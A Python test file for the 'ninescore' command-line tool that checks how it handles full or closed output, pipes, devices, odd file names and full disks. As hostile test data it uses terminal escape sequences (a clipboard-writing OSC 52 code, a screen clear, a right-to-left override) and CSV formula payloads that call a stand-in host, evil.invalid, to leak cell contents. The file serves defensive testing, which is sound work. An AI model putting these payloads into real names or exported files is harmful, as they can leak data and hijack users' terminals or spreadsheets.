"""The command line against hostile names, files and outputs, for real (separate processes):
a full or closed standard output, a closed pipe, terminal escapes in names, formulas in CSV
cells, devices and pipes as outputs, a full disk, a folder the user may not write."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from ninescore.records import MatchRecord, Store
from ninescore.rules import Shot

HOSTILE_NAMES = (
    "Ivanov\x1b]52;c;ZXZpbA==\x07",  # OSC 52: writes the terminal's clipboard
    "\x1b[2J\x1b[HPetrov",  # clears the screen
    "\u202eevil\u202c Sidorov",  # right-to-left override
    "Kuz\x9b2Jnetsov",  # a C1 control: CSI on some terminals
)


def ninescore(
    data: Path, *arguments: str, stdout: object = subprocess.PIPE, timeout: float = 120
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "ninescore", "--lang", "en", "--data-dir", str(data), *arguments],
        stdout=stdout,  # type: ignore[arg-type]
        stderr=subprocess.PIPE,
        text=True,
        timeout=timeout,
        check=False,
    )


def fill(
    data: Path, players: tuple[str, str] = ("Ivanov", "Petrov"), event: str = "", count: int = 3
) -> Store:
    store = Store(data)
    for _ in range(count):
        record = MatchRecord.new(players=players, race_to=3, event=event)
        record.append(Shot(pocketed={2}))
        store.save(record)
    store.list()
    return store


def no_traceback(result: subprocess.CompletedProcess[str]) -> None:
    assert "Traceback" not in result.stderr and "Exception ignored" not in result.stderr


@pytest.mark.parametrize(
    "command",
    [["list"], ["list", "--json"], ["check"], ["export", "--csv", "-"], ["demo", "--count", "1"]],
)
def test_a_full_standard_output_is_one_sentence_and_status_1(
    data_dir: Path, command: list[str]
) -> None:
    fill(data_dir).close()
    with open("/dev/full", "w") as full:
        result = ninescore(data_dir, *command, stdout=full)
    assert result.returncode == 1
    no_traceback(result)
    assert result.stderr.strip().splitlines()[-1] == (
        "The output could not be written: the disk is full."
    )


@pytest.mark.parametrize("command", [["list"], ["list", "--json"], ["export", "--csv", "-"]])
def test_a_closed_pipe_ends_the_command_quietly(data_dir: Path, command: list[str]) -> None:
    fill(data_dir, count=40).close()
    with subprocess.Popen(
        [sys.executable, "-m", "ninescore", "--data-dir", str(data_dir), *command],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        bufsize=1,
    ) as process:
        assert process.stdout is not None and process.stderr is not None
        assert process.stdout.readline()
        process.stdout.close()  # `| head -1`
        errors = process.stderr.read()
        assert process.wait(timeout=120) == 0
    assert "Traceback" not in errors and "Exception ignored" not in errors
    assert errors == ""


def test_a_closed_standard_output_is_one_sentence(data_dir: Path) -> None:
    fill(data_dir).close()
    result = subprocess.run(
        ["sh", "-c", f'"{sys.executable}" -m ninescore --lang en --data-dir "{data_dir}" list >&-'],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 1
    no_traceback(result)
    assert "The output could not be written" in result.stderr


def test_terminal_escapes_and_overrides_in_names_are_shown_not_obeyed(data_dir: Path) -> None:
    # Overrides are text a name may hold: shown as what they are, never obeyed.
    players = (HOSTILE_NAMES[2], "Ivanov")
    fill(data_dir, players, event=HOSTILE_NAMES[2], count=1).close()
    listed = ninescore(data_dir, "list")
    assert listed.returncode == 0
    for raw in ("\u202e", "\u202c"):
        assert raw not in listed.stdout
    assert "<U+202E>evil<U+202C> Sidorov" in listed.stdout
    as_json = ninescore(data_dir, "list", "--json")
    assert "\u202e" not in as_json.stdout
    [entry] = json.loads(as_json.stdout)
    assert entry["players"] == list(players), "JSON keeps the exact names, as escapes"
    exported = ninescore(data_dir, "export", "--csv", "-")
    assert exported.returncode == 0 and "\u202e" not in exported.stdout


def test_control_characters_in_a_peers_file_are_refused_with_one_sentence(
    data_dir: Path,
) -> None:
    # No window or command makes such a name (the boundary refuses control characters); a file
    # written by another program with one is refused where it is read, and nothing of it reaches
    # a terminal raw.
    store = fill(data_dir, count=1)
    record = MatchRecord.new(players=("PLAYER-ONE", "PLAYER-TWO"), race_to=3, event="EVENT")
    text = record.to_json()
    for placeholder, hostile in zip(
        ("PLAYER-ONE", "PLAYER-TWO", "EVENT"),
        (HOSTILE_NAMES[0], HOSTILE_NAMES[1], HOSTILE_NAMES[3]),
        strict=True,
    ):
        text = text.replace(placeholder, json.dumps(hostile)[1:-1])
    (store.matches_path / f"{record.id}.json").write_text(text, "utf-8")
    store.close()
    for command in (["list"], ["list", "--json"], ["check"], ["export", "--csv", "-"]):
        result = ninescore(data_dir, *command)
        no_traceback(result)
        for raw in ("\x1b", "\x07", "\x9b"):
            assert raw not in result.stdout and raw not in result.stderr, command
        assert "control character" in result.stderr, command
        if command != ["check"]:
            assert "Ivanov" in result.stdout, "the sound match is still there"


def test_a_non_utf8_file_name_is_listed_checked_and_exported(data_dir: Path) -> None:
    store = fill(data_dir, count=2)
    record = MatchRecord.new(players=("Ann", "Bob"), race_to=2)
    odd = store.matches_path / os.fsdecode(b"caf\xe9.json")
    odd.write_text(record.to_json(), encoding="utf-8")
    (store.matches_path / os.fsdecode(b"dam\xffaged.json")).write_bytes(b"{")
    store.close()
    listed = ninescore(data_dir, "list", "--json")
    assert listed.returncode == 0
    no_traceback(listed)
    paths = [entry["path"] for entry in json.loads(listed.stdout)]
    assert len(paths) == 3 and any(path.endswith("caf\udce9.json") for path in paths)
    assert "dam\\xffaged.json" in listed.stderr
    checked = ninescore(data_dir, "check")
    assert checked.returncode == 1 and "dam\\xffaged.json" in checked.stderr
    no_traceback(checked)
    exported = ninescore(data_dir, "export", "--csv", "-")
    assert exported.returncode == 0 and exported.stdout.count("\n") == 4


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    data_dir: Path, tmp_path: Path, start: str
) -> None:
    formula = f'{start}HYPERLINK("http://evil.invalid/?"&A1,"click")'
    fill(data_dir, (formula, "Petrov"), event=formula, count=1).close()
    for what in ("matches", "frames", "players"):
        out = tmp_path / f"{what}.csv"
        result = ninescore(data_dir, "export", "--csv", str(out), "--what", what)
        assert result.returncode == 0, result.stderr
        with open(out, encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        if what != "players":  # the players' file names each player as it groups them
            assert f"'{formula}" in cells
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("start", ["\t", "\r", "\n"])
def test_a_name_that_would_start_a_new_row_or_cell_never_reaches_a_csv(start: str) -> None:
    # A bare CR in a name started a new spreadsheet row whose first cell was a live formula:
    # such a name is refused where it comes in.
    with pytest.raises(ValueError, match="valid text"):
        MatchRecord.new(players=(f'{start}=HYPERLINK("http://evil.invalid")', "Petrov"))


def special_targets(tmp_path: Path) -> list[Path]:
    fifo = tmp_path / "pipe.out"
    os.mkfifo(fifo)
    link = tmp_path / "link.out"
    link.symlink_to(tmp_path / "elsewhere.pdf")
    targets = [fifo, link]
    if os.geteuid() == 0:
        device = tmp_path / "null"
        os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # our own /dev/null twin
        targets.append(device)
    return targets


def kind(path: Path) -> int:
    return stat.S_IFMT(os.lstat(path).st_mode)


def test_sheet_and_export_never_write_over_a_device_a_pipe_or_a_link(
    data_dir: Path, tmp_path: Path
) -> None:
    store = fill(data_dir, count=1)
    match_id = store.list()[0].id
    store.close()
    for target in special_targets(tmp_path):
        before = kind(target)
        for command in (["sheet", match_id, "-o", str(target)], ["export", "--csv", str(target)]):
            result = ninescore(data_dir, *command, timeout=60)
            assert result.returncode == 1, (command, result.stderr)
            no_traceback(result)
            assert "is not a regular file" in result.stderr
            assert kind(target) == before  # still the device, the pipe, the link
    assert not (tmp_path / "elsewhere.pdf").exists()


def test_demo_on_a_full_disk_says_how_many_were_saved(small_disk: Path) -> None:
    data = small_disk / "data"
    result = ninescore(data, "demo", "--count", "400", "--no-sync", timeout=300)
    assert result.returncode == 1
    no_traceback(result)
    saved = len(list((data / "matches").glob("*.json")))
    assert 0 < saved < 400
    assert f"Only {saved} of 400 sample match(es) could be saved in" in result.stderr
    assert "disk holding" in result.stderr and "kept in memory" not in result.stderr
    assert not [p for p in (data / "matches").iterdir() if p.name.startswith(".")]


@pytest.mark.parametrize("command", [["list"], ["check"], ["export", "--csv", "-"]])
def test_pipes_and_endless_devices_in_the_folder_hang_no_command(
    data_dir: Path, command: list[str]
) -> None:
    fill(data_dir, count=2).close()
    matches = data_dir / "matches"
    os.mkfifo(matches / "x.json")
    (matches / "zero.json").symlink_to("/dev/zero")
    (matches / "random.json").symlink_to("/dev/urandom")
    result = ninescore(data_dir, *command, timeout=60)  # a hang fails here, after 60 s
    no_traceback(result)
    assert "x.json is not a regular file" in result.stderr
    assert "zero.json is a symbolic link" in result.stderr


def test_a_folder_the_user_may_not_write_is_still_listed_and_checked(unprivileged) -> None:  # type: ignore[no-untyped-def]
    data = unprivileged.scratch / "data"
    fill(data, count=3).close()
    for path in (data / "index.sqlite3", data / "index.sqlite3-wal", data / "index.sqlite3-shm"):
        path.unlink(missing_ok=True)  # so that it cannot even be opened for reading
    for folder, _, _ in os.walk(data):
        os.chmod(folder, 0o555)
    listed = unprivileged.ninescore("--data-dir", str(data), "list")
    assert listed.returncode == 0, listed.stderr
    assert listed.stdout.count("Ivanov – Petrov") == 3
    checked = unprivileged.ninescore("--data-dir", str(data), "check")
    assert checked.returncode == 0 and "all of them are sound" in checked.stdout
    demo = unprivileged.ninescore("--data-dir", str(data), "demo", "--count", "1")
    assert demo.returncode == 1
    assert "is read-only or not writable" in demo.stderr
    out = data / "out.csv"
    exported = unprivileged.ninescore("--data-dir", str(data), "export", "--csv", str(out))
    assert exported.returncode == 1 and "read-only or not writable" in exported.stderr
    for result in (listed, checked, demo, exported):
        no_traceback(result)


def test_the_version_on_a_full_standard_output_is_one_sentence() -> None:
    with open("/dev/full", "w") as full:
        result = subprocess.run(
            [sys.executable, "-m", "ninescore", "--version"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
            check=False,
        )
    assert result.returncode == 1
    no_traceback(result)
    assert "could not be written" in result.stderr
